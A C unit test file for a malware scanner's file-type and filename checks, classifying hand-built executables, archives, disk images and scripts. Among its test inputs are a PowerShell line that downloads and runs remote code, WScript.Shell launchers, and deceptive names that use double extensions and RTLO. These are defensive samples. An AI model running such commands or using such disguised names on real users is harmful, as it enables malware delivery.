/* Unit tests of file typing and the name checks (lib/scan/scan_type.c,
 * scan_file.c): each decisive magic from a small hand-made buffer, the
 * kinds Windows runs, name/type mismatches, double extensions, RTLO and
 * scripts by name. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <archive.h>
#include <archive_entry.h>
#include <cmocka.h>

#include "ward/error.h"
#include "ward/file.h"

static struct ward_file_ctx *ctx;
static struct ward_file_result r;

static int
setup(void **state)
{
	(void)state;
	ctx = ward_file_ctx_new(NULL);
	return ctx ? 0 : -1;
}

static int
teardown(void **state)
{
	(void)state;
	ward_file_ctx_free(ctx);
	return 0;
}

static void
analyse(const void *p, size_t n, const char *name)
{
	assert_int_equal(ward_file_analyse(ctx, p, n, name, &r), 0);
}

static void
analyse_str(const char *s, const char *name)
{
	analyse(s, strlen(s), name);
}

/* The hit of check c at where, or NULL. */
static const struct ward_file_hit *
hit(const struct ward_check *c, const char *where)
{
	size_t i;

	for (i = 0; i < r.n_hits; i++)
		if (r.hits[i].check == c && strcmp(r.hits[i].where, where) == 0)
			return &r.hits[i];
	return NULL;
}

static void
assert_hit(const struct ward_check *c, const char *where, const char *detail_part)
{
	const struct ward_file_hit *h = hit(c, where);

	if (!h) {
		size_t i;
		for (i = 0; i < r.n_hits; i++)
			print_message("  have %s [%s] %s\n", r.hits[i].check->id, r.hits[i].where,
				      r.hits[i].detail);
		fail_msg("no %s at [%s]", c->id, where);
	}
	if (detail_part && !strstr(h->detail, detail_part))
		fail_msg("%s detail \"%s\" lacks \"%s\"", c->id, h->detail, detail_part);
}

/* A minimal PE: DOS header, PE signature at 0x80, file and optional headers. */
static size_t
make_pe(uint8_t *b, size_t size, int dll)
{
	memset(b, 0, size);
	b[0] = 'M';
	b[1] = 'Z';
	b[0x3c] = 0x80;
	memcpy(b + 0x80, "PE\0\0", 4);
	b[0x84] = 0x4c; /* i386 */
	b[0x85] = 0x01;
	b[0x96] = 0x02;
	b[0x97] = dll ? 0x21 : 0x01;
	b[0x98] = 0x0b; /* PE32 */
	b[0x99] = 0x01;
	b[0x98 + 68] = 2; /* GUI */
	return 512;
}

/* A zip of (name, data) pairs written by libarchive; returns its size. */
static size_t
make_zip_opts(uint8_t *out, size_t size, const char *opts, const char *const *names,
	      const char *const *data, size_t count)
{
	struct archive *a = archive_write_new();
	struct archive_entry *e = archive_entry_new();
	size_t used = 0, i;

	assert_int_equal(archive_write_set_format_zip(a), ARCHIVE_OK);
	if (opts)
		assert_int_equal(archive_write_set_options(a, opts), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(a, out, size, &used), ARCHIVE_OK);
	for (i = 0; i < count; i++) {
		archive_entry_clear(e);
		archive_entry_set_pathname(e, names[i]);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_entry_set_size(e, (la_int64_t)strlen(data[i]));
		assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
		archive_write_data(a, data[i], strlen(data[i]));
	}
	archive_entry_free(e);
	archive_write_close(a);
	archive_write_free(a);
	return used;
}

static size_t
make_zip(uint8_t *out, size_t size, const char *const *names, const char *const *data, size_t count)
{
	return make_zip_opts(out, size, NULL, names, data, count);
}

static void
test_programs(void **state)
{
	uint8_t b[4096];
	size_t n;
	(void)state;

	n = make_pe(b, sizeof(b), 1);
	analyse(b, n, "setup.dll");
	assert_string_equal(r.kind, "pe");
	assert_string_equal(r.type, "application/vnd.microsoft.portable-executable");
	assert_hit(&ward_check_file_executable, "", "PE32 executable (DLL) (GUI)");

	make_pe(b, sizeof(b), 0);
	analyse(b, n, NULL);
	assert_hit(&ward_check_file_executable, "", "PE32 executable (GUI)");
	assert_null(strstr(r.hits[0].detail, "DLL"));

	/* ELF, little-endian 64-bit executable. */
	memset(b, 0, 64);
	memcpy(b,
	       "\x7f"
	       "ELF\x02\x01\x01",
	       7);
	b[16] = 2;
	analyse(b, 64, "a.out");
	assert_string_equal(r.kind, "elf");
	assert_hit(&ward_check_file_executable, "", "ELF 64-bit executable");

	memset(b, 0, 64);
	memcpy(b, "\xcf\xfa\xed\xfe", 4);
	analyse(b, 64, NULL);
	assert_string_equal(r.kind, "macho");
	/* Universal binary with two architectures, and a Java class (not a program). */
	memset(b, 0, 64);
	memcpy(b, "\xca\xfe\xba\xbe\x00\x00\x00\x02", 8);
	analyse(b, 64, NULL);
	assert_hit(&ward_check_file_executable, "", "universal");
	memcpy(b, "\xca\xfe\xba\xbe\x00\x00\x00\x34", 8);
	analyse(b, 64, NULL);
	assert_null(hit(&ward_check_file_executable, ""));
}

static void
test_shortcuts_and_disks(void **state)
{
	static const uint8_t lnk[] = {0x4c, 0, 0,    0, 1, 0x14, 2, 0, 0, 0,
				      0,    0, 0xc0, 0, 0, 0,	 0, 0, 0, 0x46};
	uint8_t *b = calloc(1, 0xa000);
	(void)state;

	assert_non_null(b);
	memcpy(b, lnk, sizeof(lnk));
	analyse(b, 200, "report.lnk");
	assert_string_equal(r.kind, "lnk");
	assert_hit(&ward_check_file_shortcut, "", "LNK");

	memset(b, 0, 0xa000);
	memcpy(b + 0x8001, "CD001", 5);
	analyse(b, 0xa000, "Job.iso");
	assert_string_equal(r.kind, "iso");
	assert_hit(&ward_check_file_disk_image, "", "ISO 9660");

	memset(b, 0, 0xa000);
	memcpy(b + 0x8001, "BEA01", 5);
	memcpy(b + 0x8801, "NSR02", 5);
	analyse(b, 0xa000, NULL);
	assert_string_equal(r.kind, "udf");

	memset(b, 0, 0xa000);
	memcpy(b + 4096 - 512, "conectix", 8);
	analyse(b, 4096, "disk.bin");
	assert_string_equal(r.kind, "vhd");
	assert_hit(&ward_check_file_disk_image, "", "VHD");

	memset(b, 0, 0xa000);
	memcpy(b, "vhdxfile", 8);
	analyse(b, 4096, NULL);
	assert_string_equal(r.kind, "vhdx");

	memset(b, 0, 0xa000);
	b[0] = 0xeb;
	b[1] = 0x3c;
	b[2] = 0x90;
	memcpy(b + 54, "FAT12   ", 8);
	b[510] = 0x55;
	b[511] = 0xaa;
	analyse(b, 4096, "floppy.img");
	assert_string_equal(r.kind, "img");
	free(b);
}

static void
test_ole2_msi(void **state)
{
	static const uint8_t msi_clsid[] = {0x84, 0x10, 0x0c, 0, 0, 0, 0, 0,
					    0xc0, 0,	0,    0, 0, 0, 0, 0x46};
	uint8_t b[2048];
	(void)state;

	memset(b, 0, sizeof(b));
	memcpy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	b[0x1e] = 9; /* 512-byte sectors */
	b[0x30] = 1; /* directory in sector 1, at offset 1024 */
	analyse(b, sizeof(b), "a.doc");
	assert_string_equal(r.kind, "ole2");
	assert_null(hit(&ward_check_file_executable, ""));

	memcpy(b + 1024 + 0x50, msi_clsid, 16);
	analyse(b, sizeof(b), "update.msi");
	assert_string_equal(r.kind, "msi");
	assert_hit(&ward_check_file_executable, "", "MSI");

	memset(b, 0, sizeof(b));
	memcpy(b, "ITSF\x03\0\0\0", 8);
	analyse(b, 96, "help.chm");
	assert_string_equal(r.kind, "chm");
	assert_hit(&ward_check_file_script, "", "CHM");
}

static void
test_zip_family(void **state)
{
	static const char *const ooxml[] = {"[Content_Types].xml", "_rels/.rels",
					    "word/document.xml"};
	static const char *const jar[] = {"META-INF/MANIFEST.MF", "a/B.class"};
	static const char *const plain[] = {"notes.txt"};
	static const char *const data[] = {"<Types/>", "<Relationships/>", "<w:document/>"};
	uint8_t b[8192];
	size_t n;
	(void)state;

	n = make_zip(b, sizeof(b), ooxml, data, 3);
	analyse(b, n, "report.docx");
	assert_string_equal(r.kind, "ooxml");
	assert_string_equal(
	    r.type, "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
	assert_null(hit(&ward_check_file_type_mismatch, ""));

	n = make_zip(b, sizeof(b), jar, data, 2);
	analyse(b, n, "tool.jar");
	assert_string_equal(r.kind, "jar");
	assert_hit(&ward_check_file_executable, "", "JAR");

	/* An e-book's scripts are not files the reader double-clicks. */
	{
		static const char *const epub[] = {"mimetype", "OPS/js/book.js"};
		static const char *const edata[] = {"application/epub+zip", "var a = 1;"};
		n = make_zip_opts(b, sizeof(b), "zip:compression=store", epub, edata, 2);
		analyse(b, n, "book.epub");
		assert_string_equal(r.kind, "epub");
		assert_int_equal(r.n_hits, 0);
	}

	/* A plain zip named .docx is not what its name says. */
	n = make_zip(b, sizeof(b), plain, data, 1);
	analyse(b, n, "report.docx");
	assert_string_equal(r.kind, "zip");
	assert_hit(&ward_check_file_type_mismatch, "", "named .docx");
}

struct magic_case {
	const char *bytes;
	size_t len;
	const char *kind;
};

static void
test_archive_magic(void **state)
{
	static const struct magic_case cases[] = {
	    {"7z\xbc\xaf\x27\x1c\x00\x04", 8, "7z"},
	    {"Rar!\x1a\x07\x00\xcf\x90\x73", 10, "rar"},
	    {"Rar!\x1a\x07\x01\x00\x33\x92", 10, "rar"},
	    {"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10, "gzip"},
	    {"BZh91AY&SY", 10, "bzip2"},
	    {"\xfd"
	     "7zXZ\x00\x00\x04",
	     8, "xz"},
	    {"MSCF\0\0\0\0\x10\x02", 10, "cab"},
	    {"\x60\xea\x2c\x00\x22\x0b\x01\x02\x10\x00\x02", 11, "arj"},
	    {"070701000000010000", 18, "cpio"},
	    {"SZDD\x88\xf0\x27\x33\x41\x5f\x10\0\0\0", 14, "szdd"},
	    {"\x78\x9f\x3e\x22\x01\x00\x01", 7, "tnef"},
	    {"\x00\x00\x00\x01\x12\x3a\x00\x10\x19\x04\x00\x10\x00\x00\x00\x00", 16, "sis"},
	    {"{\\rtf1\\ansi hello}", 18, "rtf"},
	};
	uint8_t b[1024];
	size_t i;
	(void)state;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		memset(b, 0, sizeof(b));
		memcpy(b, cases[i].bytes, cases[i].len);
		analyse(b, 64, NULL);
		if (strcmp(r.kind, cases[i].kind) != 0)
			fail_msg("case %zu: kind %s, want %s", i, r.kind, cases[i].kind);
	}
	/* Archives nobody here opens are opaque. */
	memset(b, 0, sizeof(b));
	memcpy(b, cases[7].bytes, cases[7].len);
	analyse(b, 64, "x.arj");
	assert_hit(&ward_check_file_archive_opaque, "", "ARJ");

	/* tar: ustar magic at 257. */
	memset(b, 0, sizeof(b));
	memcpy(b, "a.txt", 5);
	memcpy(b + 257,
	       "ustar\0"
	       "00",
	       8);
	analyse(b, 1024, NULL);
	assert_string_equal(r.kind, "tar");

	/* PDF: %PDF- anywhere in the first 1024 bytes. */
	memset(b, ' ', sizeof(b));
	memcpy(b + 600, "%PDF-1.7\n", 9);
	analyse(b, sizeof(b), "a.pdf");
	assert_string_equal(r.kind, "pdf");
	assert_null(hit(&ward_check_file_type_mismatch, ""));
}

static void
test_text_kinds(void **state)
{
	(void)state;

	analyse_str("<!DOCTYPE html><html><body>hi</body></html>", "page.html");
	assert_string_equal(r.kind, "html");
	assert_int_equal(r.n_hits, 0);

	analyse_str("<html><head><HTA:APPLICATION ID=\"x\"/></head><script>1</script></html>",
		    "update.hta");
	assert_string_equal(r.kind, "hta");
	assert_hit(&ward_check_file_script, "", "HTA");

	analyse_str("<?xml version=\"1.0\"?>\n<job id=\"a\"><script language=\"JScript\">"
		    "WScript.Echo(1);</script></job>",
		    NULL);
	assert_hit(&ward_check_file_script, "", "WSF");

	analyse_str("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n", "a");
	assert_string_equal(r.kind, "script");
	assert_string_equal(r.type, "application/javascript");
	assert_hit(&ward_check_file_script, "", "JScript");

	analyse_str("Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n", NULL);
	assert_string_equal(r.type, "text/vbscript");
	assert_hit(&ward_check_file_script, "", "VBScript");

	analyse_str("$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://x/a'))\n", NULL);
	assert_string_equal(r.type, "text/x-powershell");

	analyse_str("@echo off\r\nstart calc.exe\r\n", NULL);
	assert_string_equal(r.type, "text/x-msdos-batch");

	analyse_str("[InternetShortcut]\r\nURL=file://10.0.0.1/share/a.exe\r\n", "a.url");
	assert_hit(&ward_check_file_shortcut, "", "Internet shortcut");

	analyse_str("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", NULL);
	assert_string_equal(r.kind, "reg");

	analyse_str("From: a@example.com\nTo: b@example.com\nSubject: hi\n\nbody\n", "x.eml");
	assert_string_equal(r.kind, "mail");
	assert_int_equal(r.n_hits, 0);

	analyse_str("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Word.Document\"?>\n"
		    "<w:wordDocument/>",
		    "a.xml");
	assert_string_equal(r.kind, "officexml");

	/* Prose that mentions CreateObject once is not a script. */
	analyse_str("Please call CreateObject( in your macro, then send the results.\n", NULL);
	assert_string_equal(r.kind, "text");
	assert_int_equal(r.n_hits, 0);
}

static void
test_names(void **state)
{
	uint8_t b[512];
	size_t n = make_pe(b, sizeof(b), 0);
	(void)state;

	/* A program named like a PDF. */
	analyse(b, n, "invoice.pdf");
	assert_hit(&ward_check_file_executable, "", NULL);
	assert_hit(&ward_check_file_type_mismatch, "", "named .pdf, content is a program");

	analyse(b, n, "invoice.pdf.exe");
	assert_hit(&ward_check_file_double_extension, "", ".pdf then .exe");
	assert_null(hit(&ward_check_file_type_mismatch, ""));

	/* Blanks push the real extension out of view; Windows drops trailing dots. */
	analyse(b, n, "x.doc        .scr");
	assert_hit(&ward_check_file_double_extension, "", "blanks");
	analyse(b, n, "x.jpg.exe. . ");
	assert_hit(&ward_check_file_double_extension, "", ".jpg then .exe");

	/* U+202E makes "invoice\u202Efdp.exe" read "invoiceexe.pdf". */
	analyse(b, n,
		"invoice\xe2\x80\xae"
		"fdp.exe");
	assert_hit(&ward_check_file_double_extension, "", "U+202E");

	/* Text named .js runs when double-clicked. */
	analyse_str("hello there\n", "readme.js");
	assert_hit(&ward_check_file_script, "", "by name (.js)");
	analyse_str("0\n", "bad_ext.dotted_file_name.exe");
	assert_hit(&ward_check_file_executable, "", "by name (.exe)");
	/* ... the same text named .txt is harmless. */
	analyse_str("hello there\n", "readme.txt");
	assert_int_equal(r.n_hits, 0);
	/* A script named .txt only opens in a viewer: mismatch, not script. */
	analyse_str("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n", "a.txt");
	assert_null(hit(&ward_check_file_script, ""));
	assert_hit(&ward_check_file_type_mismatch, "", "a script");
	/* A document named as a document: no hit. */
	analyse_str("{\\rtf1 hello}", "letter.doc");
	assert_int_equal(r.n_hits, 0);
	analyse("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16, "photo.jpg");
	assert_int_equal(r.n_hits, 0);
	/* A PDF named .jpg. */
	analyse_str("%PDF-1.4\n%%EOF\n", "photo.jpg");
	assert_hit(&ward_check_file_type_mismatch, "", "a PDF");
	/* Names inside paths count by their last component. */
	analyse(b, n, "dir.pdf/setup.exe");
	assert_null(hit(&ward_check_file_double_extension, ""));
}

static void
test_api(void **state)
{
	struct ward_file_limits l;
	struct ward_file_ctx *small;
	uint8_t b[512];
	size_t i;
	(void)state;

	ward_file_limits_default(&l);
	assert_true(l.max_size > 0 && l.max_depth > 0 && l.max_entries > 0 && l.max_total > 0 &&
		    l.max_ratio > 0);
	assert_int_equal(ward_file_analyse(NULL, b, 1, NULL, &r), WARD_EINVAL);
	analyse("", 0, NULL);
	assert_string_equal(r.kind, "empty");
	assert_int_equal(r.n_hits, 0);

	l.max_size = 100;
	small = ward_file_ctx_new(&l);
	assert_non_null(small);
	make_pe(b, sizeof(b), 0);
	assert_int_equal(ward_file_analyse(small, b, sizeof(b), "a.exe", &r), WARD_ELIMIT);
	assert_string_equal(r.kind, "pe");
	assert_true(r.truncated);
	ward_file_ctx_free(small);
	ward_file_ctx_free(NULL);

	/* libmagic names what no own check knows. */
	for (i = 0; i < sizeof(b); i++)
		b[i] = (uint8_t)(i * 7 + 3);
	memcpy(b, "OggS\0\x02", 6);
	analyse(b, sizeof(b), NULL);
	assert_string_equal(r.kind, "data");
	assert_string_not_equal(r.type, "");

	/* Every check has an id in the file namespace. */
	for (i = 0; ward_file_checks[i]; i++)
		assert_int_equal(strncmp(ward_file_checks[i]->id, "file.", 5), 0);
	assert_int_equal(i, 18);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_programs),	  cmocka_unit_test(test_shortcuts_and_disks),
	    cmocka_unit_test(test_ole2_msi),	  cmocka_unit_test(test_zip_family),
	    cmocka_unit_test(test_archive_magic), cmocka_unit_test(test_text_kinds),
	    cmocka_unit_test(test_names),	  cmocka_unit_test(test_api),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
